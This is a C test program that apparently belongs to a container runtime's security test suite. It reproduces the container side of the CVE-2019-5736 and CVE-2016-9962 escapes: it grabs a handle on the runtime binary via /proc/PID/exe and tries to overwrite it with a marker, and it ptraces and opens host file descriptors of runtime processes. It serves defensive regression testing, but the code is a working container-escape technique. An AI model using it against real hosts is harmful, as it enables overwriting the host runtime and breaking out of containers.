/* proc-attack.c: the container side of the CVE-2019-5736 and CVE-2016-9962
 * attacks, for tests/integration/test-security.sh. Build:
 *
 *     gcc -static -O2 -o proc-attack proc-attack.c
 *
 * Usage: proc-attack SECONDS DEV:INO
 *
 * DEV:INO (stat -c %d:%i) names the runtime binary: only handles on it, and
 * ptrace/fd access to processes running it (or a sealed handle on it: an
 * executable that is no file of the container's root, or cannot be told),
 * count as a breach; the container's own programs are fair game.
 *
 * For SECONDS, over and over, for every other process it can see in /proc:
 *   - open("/proc/PID/exe", O_RDONLY): a handle on the runtime binary while
 *     the runtime's init still runs it (CVE-2019-5736). With one, it keeps
 *     trying to reopen that handle O_WRONLY through /proc/self/fd/N (which
 *     works once no process executes the binary any more: ETXTBSY before)
 *     and writes a marker into it;
 *   - ptrace(PTRACE_ATTACH), and open("/proc/PID/fd/N") of each fd
 *     (CVE-2016-9962: the init's host fds).
 * Then prints, one key=value a line:
 *   exe.opened=0|1 exe.written=0|1 ptrace=0|1 fd.opened=0|1
 *   and exe.target=, fd.target= with what was reached (diagnostics). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int exe_fd = -1, exe_written, ptraced, fd_opened;
static unsigned long long rt_dev, rt_ino;

/* Is `pid` running the runtime? Its binary, or anything that is not a
 * file of the container's own root (the runtime's sealed handle on its
 * binary: a memfd or a detached overlayfs); unknown (no access) counts as
 * yes. */
static int runs_runtime(int pid)
{
    char path[64];
    struct stat st, root;

    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    if (stat(path, &st) < 0 || stat("/", &root) < 0)
        return 1;
    return (st.st_dev == rt_dev && st.st_ino == rt_ino) || st.st_dev != root.st_dev;
}
static char exe_target[256], fd_target[256];

static double now(void)
{
    struct timespec ts;

    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void try_exe(int pid)
{
    struct stat st;
    char path[64];
    int fd;

    if (exe_fd >= 0)
        return;
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return;
    if (fstat(fd, &st) < 0 || st.st_dev != rt_dev || st.st_ino != rt_ino) {
        close(fd); /* a program of the container, not the runtime */
        return;
    }
    exe_fd = fd;
    if (readlink(path, exe_target, sizeof(exe_target) - 1) < 0)
        snprintf(exe_target, sizeof(exe_target), "?");
}

static void try_write_exe(void)
{
    char path[64];
    int fd;

    if (exe_fd < 0 || exe_written)
        return;
    snprintf(path, sizeof(path), "/proc/self/fd/%d", exe_fd);
    fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0)
        return; /* ETXTBSY while the runtime binary is still running */
    if (pwrite(fd, "#!PWNED-by-proc-attack\n", 23, 0) == 23)
        exe_written = 1;
    close(fd);
}

static void try_ptrace(int pid)
{
    if (ptraced || ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0)
        return;
    (void)waitpid(pid, NULL, __WALL);
    ptraced = runs_runtime(pid);
    (void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

static void try_fds(int pid)
{
    char dir[64], path[320];
    struct dirent *e;
    DIR *d;

    snprintf(dir, sizeof(dir), "/proc/%d/fd", pid);
    d = opendir(dir);
    if (!d)
        return;
    while ((e = readdir(d)) && !fd_opened) {
        int fd;

        if (e->d_name[0] == '.' || atoi(e->d_name) <= 2)
            continue;
        snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
        fd = open(path, O_PATH | O_CLOEXEC);
        if (fd < 0)
            continue;
        fd_opened = runs_runtime(pid);
        if (readlink(path, fd_target, sizeof(fd_target) - 1) < 0)
            snprintf(fd_target, sizeof(fd_target), "?");
        close(fd);
    }
    closedir(d);
}

int main(int argc, char **argv)
{
    double end = now() + (argc > 1 ? atof(argv[1]) : 2);
    int self = getpid();

    if (argc < 3 || sscanf(argv[2], "%llu:%llu", &rt_dev, &rt_ino) != 2) {
        fprintf(stderr, "usage: proc-attack SECONDS DEV:INO\n");
        return 2;
    }

    while (now() < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;

        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);

            if (pid <= 0 || pid == self)
                continue;
            try_exe(pid);
            try_ptrace(pid);
            try_fds(pid);
        }
        if (d)
            closedir(d);
        try_write_exe();
        usleep(1000);
    }
    printf("exe.opened=%d\nexe.written=%d\nptrace=%d\nfd.opened=%d\n", exe_fd >= 0, exe_written,
           ptraced, fd_opened);
    printf("exe.target=%s\nfd.target=%s\n", exe_target, fd_target);
    return 0;
}
